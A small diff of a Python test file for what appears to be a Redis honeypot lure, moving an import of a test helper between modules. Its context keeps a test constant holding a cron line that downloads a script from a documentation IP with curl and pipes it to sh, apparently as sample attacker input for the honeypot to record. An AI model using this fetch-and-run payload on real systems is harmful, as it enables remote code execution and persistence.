@@ -6,8 +6,8 @@ import asyncio
 import pytest
 
 from decnet.lures.redis.recorder import MAX_RECORDS
-from tests.lures.redis.cache import ask, cache, packed
-from tests.support.lures import Served, serving
+from tests.lures.redis.cache import cache, packed
+from tests.support.lures import Served, ask, serving
 
 CRON = b"\n\n* * * * * curl -fsSL http://203.0.113.9/x.sh|sh\n\n"
 
